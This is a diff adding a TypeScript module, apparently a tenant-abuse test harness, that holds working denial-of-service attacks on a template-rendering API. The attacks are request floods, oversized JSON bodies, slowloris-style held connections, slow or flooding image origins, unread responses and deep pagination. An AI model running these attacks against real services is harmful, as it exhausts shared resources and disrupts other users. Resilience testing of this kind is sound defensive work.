@@ -1,0 +1,237 @@
+/** What one tenant may do to a service that others use, as a penetration tester would. */
+import { once } from 'node:events';
+import { createServer, type ServerResponse } from 'node:http';
+import { connect, createServer as createTcpServer, type AddressInfo, type Server } from 'node:net';
+import { setTimeout as sleep } from 'node:timers/promises';
+import { Agent, request } from 'undici';
+
+/** The attacker's workspace on the service. */
+export interface Target {
+  readonly url: string;
+  /** One key for each of its accounts. */
+  readonly keys: readonly string[];
+  /** Its templates: with a variable `text`, with a variable `photo`, and the same on a large page. */
+  readonly templates: { readonly text: string; readonly photo: string; readonly poster: string };
+  /** A large AVIF and a noisy JPEG. */
+  readonly pictures: { readonly avif: Uint8Array; readonly jpeg: Uint8Array };
+}
+
+export interface Attack {
+  readonly name: string;
+  /** Attacks until its process is ended. */
+  run(target: Target): Promise<void>;
+}
+
+const mebibyte = 1024 * 1024;
+const maxBodyBytes = 10 * mebibyte;
+
+export const attacks: readonly Attack[] = [
+  { name: 'renders at the rate of its plan', run: renderAtRate },
+  {
+    name: 'bodies of 10 MiB with escapes and empty rows',
+    run: (target) => submitBodies(target, fill(String.raw`{"x":"\u0041","rows":[{}`, ',{}', ']}')),
+  },
+  {
+    name: 'bodies of 10 MiB with one row of 780,000 names',
+    run: (target) => submitBodies(target, namesBody()),
+  },
+  {
+    name: 'bodies of 10 MiB of arrays',
+    run: (target) => submitBodies(target, fill('{"rows":[[]', ',[]', ']}')),
+  },
+  { name: '1,000 bodies that stop before their last byte', run: holdBodies },
+  { name: 'texts that take long', run: renderTexts },
+  { name: 'AVIF pictures that take long', run: renderAvif },
+  { name: 'batches with pictures of a slow origin', run: submitSlowPictures },
+  {
+    name: 'pictures behind endless interim answers',
+    run: (target) => renderFloods(target, 'HTTP/1.1 102 Processing\r\n\r\n'.repeat(2_000), ''),
+  },
+  {
+    name: 'pictures in tiny chunks with extensions',
+    run: (target) => renderFloods(target, '1;a=b\r\nx\r\n'.repeat(5_000), chunkedHead),
+  },
+  { name: '20 large answers that nobody reads', run: ignoreAnswers },
+  { name: 'late pages of 100,000 jobs', run: readLatePages },
+  { name: '1,000 connections that send half a head', run: holdHeads },
+];
+
+const chunkedHead = 'HTTP/1.1 200 OK\r\nContent-Type: image/png\r\nTransfer-Encoding: chunked\r\n\r\n';
+
+/** A body of just less than 10 MiB. */
+function fill(start: string, repeated: string, end: string): string {
+  const count = Math.floor((maxBodyBytes - start.length - end.length) / repeated.length);
+  return start + repeated.repeat(count) + end;
+}
+
+function namesBody(): string {
+  const names = Array.from({ length: 780_000 }, (_, index) => `"n${index}":""`).join(',');
+  return `{"template":{"templateId":"00000000-0000-4000-8000-000000000000"},"rows":[{${names}}]}`;
+}
+
+/** Runs `act` again and again, in several sequences at once. Refusals are expected. */
+async function repeat(
+  sequences: number,
+  act: (sequence: number, round: number) => Promise<unknown>,
+): Promise<void> {
+  const run = async (sequence: number): Promise<void> => {
+    for (let round = 0; ; round += 1) {
+      await act(sequence, round).catch(() => undefined);
+      // A refusal at once must not become a busy loop of this client.
+      await sleep(5);
+    }
+  };
+  await Promise.all(Array.from({ length: sequences }, (_, sequence) => run(sequence)));
+}
+
+const agent = new Agent({ connections: null, headersTimeout: 120_000, bodyTimeout: 120_000 });
+
+/** Sends a JSON request with the key of one of the accounts and reads the answer. */
+async function send({ url, keys }: Target, account: number, path: string, body?: string): Promise<void> {
+  const key = keys[account % keys.length] ?? '';
+  const answer = await request(url + path, {
+    method: body === undefined ? 'GET' : 'POST',
+    headers: { 'x-api-key': key, ...(body === undefined ? {} : { 'content-type': 'application/json' }) },
+    body: body ?? null,
+    dispatcher: agent,
+  });
+  await answer.body.arrayBuffer();
+}
+
+function generatePath(templateId: string): string {
+  return `/api/v1/templates/${templateId}/generate`;
+}
+
+async function renderAtRate(target: Target): Promise<void> {
+  const path = generatePath(target.templates.text);
+  await repeat(32, (sequence, round) => {
+    const text = `${sequence} ${round} `.repeat(40);
+    return send(target, sequence, path, JSON.stringify({ variables: { text } }));
+  });
+}
+
+async function submitBodies(target: Target, body: string): Promise<void> {
+  await repeat(2, (sequence) => send(target, sequence, '/api/v1/batch-jobs', body));
+}
+
+async function renderTexts(target: Target): Promise<void> {
+  const body = JSON.stringify({ variables: { text: '\u2067a\u2069'.repeat(66_000) } });
+  const path = generatePath(target.templates.text);
+  await repeat(20, (sequence) => send(target, sequence, path, body));
+}
+
+/** Renders pictures of a server, 20 at a time, each at another URL. */
+async function renderPictures(target: Target, origin: string): Promise<void> {
+  const path = generatePath(target.templates.photo);
+  await repeat(20, (sequence, round) => {
+    const variables = { photo: `${origin}/${sequence}-${round}` };
+    return send(target, sequence, path, JSON.stringify({ variables }));
+  });
+}
+
+async function renderAvif(target: Target): Promise<void> {
+  const { avif } = target.pictures;
+  const origin = await servePictures((response) =>
+    response.writeHead(200, { 'content-type': 'image/avif' }).end(avif),
+  );
+  await renderPictures(target, origin);
+}
+
+async function submitSlowPictures(target: Target): Promise<void> {
+  const origin = await servePictures((response) => setTimeout(() => response.writeHead(500).end(), 9_000));
+  const { templates, keys } = target;
+  const submit = (sequence: number, round: number) => {
+    const rows = Array.from({ length: 400 }, (_, row) => ({
+      photo: `${origin}/${sequence}-${round}-${row}`,
+    }));
+    const body = JSON.stringify({ template: { templateId: templates.photo }, rows });
+    return send(target, sequence, '/api/v1/batch-jobs', body);
+  };
+  await Promise.all([renderPictures(target, origin), repeat(keys.length, submit)]);
+}
+
+/** Starts a server of pictures. Returns its origin. */
+async function servePictures(respond: (response: ServerResponse) => void): Promise<string> {
+  return await listen(createServer((_request, response) => respond(response)));
+}
+
+async function listen(server: Server): Promise<string> {
+  server.listen(0, '127.0.0.1');
+  await once(server, 'listening');
+  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+}
+
+/** Renders with pictures of a server that repeats some bytes after its head, as fast as they are taken. */
+async function renderFloods(target: Target, flood: string, head: string): Promise<void> {
+  const bytes = Buffer.from(flood);
+  const origin = await listen(
+    createTcpServer((socket) => {
+      const write = (): void => {
+        while (!socket.destroyed && socket.write(bytes));
+      };
+      socket.on('error', () => undefined).on('drain', write);
+      socket.once('data', () => {
+        socket.write(head);
+        write();
+      });
+    }),
+  );
+  await renderPictures(target, origin);
+}
+
+/** Holds connections that send `parts` and read nothing; opens each again when it is closed. */
+async function hold(
+  target: Target,
+  count: number,
+  parts: (account: number) => Iterable<Buffer>,
+): Promise<void> {
+  const { hostname, port } = new URL(target.url);
+  await repeat(count, async (sequence) => {
+    const socket = connect(Number(port), hostname).on('error', () => undefined);
+    const closed = new Promise((resolve) => socket.once('close', resolve));
+    for (const part of parts(sequence)) {
+      if (socket.destroyed) break;
+      if (socket.write(part)) continue;
+      await Promise.race([new Promise((resolve) => socket.once('drain', resolve)), closed]);
+    }
+    await closed;
+    await sleep(1_000);
+  });
+}
+
+async function holdBodies(target: Target): Promise<void> {
+  const chunk = Buffer.alloc(64 * 1024, ' ');
+  await hold(target, 1_000, function* (account) {
+    yield head(target, account, 'POST /api/v1/batch-jobs', `Content-Length: ${maxBodyBytes}\r\n\r\n`);
+    for (let sent = chunk.length; sent < maxBodyBytes; sent += chunk.length) yield chunk;
+    yield chunk.subarray(1);
+  });
+}
+
+async function holdHeads(target: Target): Promise<void> {
+  await hold(target, 1_000, (account) => [head(target, account, 'GET /api/v1/projects', '')]);
+}
+
+function head({ url, keys }: Target, account: number, start: string, rest: string): Buffer {
+  const key = keys[account % keys.length];
+  const lines = [`${start} HTTP/1.1`, `Host: ${new URL(url).host}`, `X-Api-Key: ${key}`];
+  return Buffer.from(`${[...lines, 'Content-Type: application/json'].join('\r\n')}\r\n${rest}`);
+}
+
+async function ignoreAnswers(target: Target): Promise<void> {
+  const { jpeg } = target.pictures;
+  const origin = await servePictures((response) =>
+    response.writeHead(200, { 'content-type': 'image/jpeg' }).end(jpeg),
+  );
+  const body = JSON.stringify({ variables: { photo: `${origin}/noise` } });
+  const start = `POST ${generatePath(target.templates.poster)}`;
+  const rest = `Content-Length: ${body.length}\r\n\r\n${body}`;
+  await hold(target, 20, (account) => [head(target, account, start, rest)]);
+}
+
+async function readLatePages(target: Target): Promise<void> {
+  await repeat(16, (sequence, round) => {
+    const page = 900 + ((sequence * 131 + round * 17) % 100);
+    return send(target, 0, `/api/v1/batch-jobs?page=${page}&size=100`);
+  });
+}
